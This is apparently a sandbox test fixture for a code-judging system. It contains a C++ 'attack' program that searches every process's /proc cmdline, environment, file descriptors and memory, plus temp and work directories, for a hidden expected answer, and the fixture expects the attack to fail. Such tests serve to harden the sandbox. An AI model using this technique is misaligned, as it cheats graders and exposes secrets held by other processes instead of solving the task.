//@ attack: a C++ stdio program that scans /proc (every process's cmdline, environ, fds, memory) and the filesystem for the expected output and prints it
//@ test {"stdin": "5\n", "expected_stdout": "{SECRET}"}
//@ expect {"verdict": "WRONG_ANSWER", "passed": 0}
//@ options {"wall_time": 5, "cpu_time": 4}
#include <dirent.h>

#include <fstream>
#include <iostream>
#include <iterator>
#include <regex>
#include <string>
#include <vector>

static std::string find_in(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return "";
  std::string data;
  data.resize(1 << 20);
  in.read(&data[0], data.size());
  data.resize(in.gcount());
  static const std::regex pattern("r1kit_secret_[0-9a-f]{32}");
  std::smatch match;
  return std::regex_search(data, match, pattern) ? match.str() : "";
}

static std::vector<std::string> entries(const std::string& dir) {
  std::vector<std::string> out;
  if (DIR* d = opendir(dir.c_str())) {
    while (dirent* e = readdir(d)) {
      std::string name = e->d_name;
      if (name != "." && name != "..") out.push_back(dir + "/" + name);
    }
    closedir(d);
  }
  return out;
}

int main() {
  for (const std::string& proc : entries("/proc")) {
    for (const char* what : {"/cmdline", "/environ", "/fd/0", "/fd/1", "/fd/3", "/mem"}) {
      std::string hit = find_in(proc + what);
      if (!hit.empty()) {
        std::cout << hit << "\n";
        return 0;
      }
    }
  }
  for (const char* root : {"/tmp", "/var/tmp", "/dev/shm", ".", "/work", "/root", "/box"}) {
    for (const std::string& path : entries(root)) {
      std::string hit = find_in(path);
      if (!hit.empty()) {
        std::cout << hit << "\n";
        return 0;
      }
    }
  }
  std::cout << "nothing found\n";
}
